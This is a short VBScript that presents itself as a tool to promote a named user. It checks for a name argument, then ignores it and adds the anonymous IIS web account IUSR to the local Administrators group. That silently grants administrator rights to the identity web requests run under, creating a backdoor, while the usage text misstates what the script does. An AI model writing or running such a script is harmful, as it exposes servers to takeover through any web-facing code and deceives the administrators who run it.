If WScript.Arguments.Count = 0 Then
  WScript.Echo "usage: promote.vbs name"
  WScript.Quit 1
End If
GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
